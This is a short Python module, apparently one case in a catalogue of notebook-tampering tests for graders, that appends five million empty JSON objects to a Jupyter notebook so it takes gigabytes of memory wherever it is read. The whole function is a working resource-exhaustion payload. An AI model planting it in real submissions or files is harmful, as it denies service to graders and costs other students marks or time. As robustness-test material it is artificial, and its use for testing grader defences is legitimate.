"""The notebook is valid JSON of five million empty objects, which take gigabytes where they are read.

Would gain: nobody; the class is not graded, or others lose marks or time.
At most: yes
"""

import json
from pathlib import Path

from nbformat import NotebookNode


def change(path: Path, notebook: NotebookNode) -> None:
    text = json.dumps(notebook)
    path.write_text(text[:-1] + ', "x": [' + "{}," * 5_000_000 + "{}]}", encoding="utf-8")
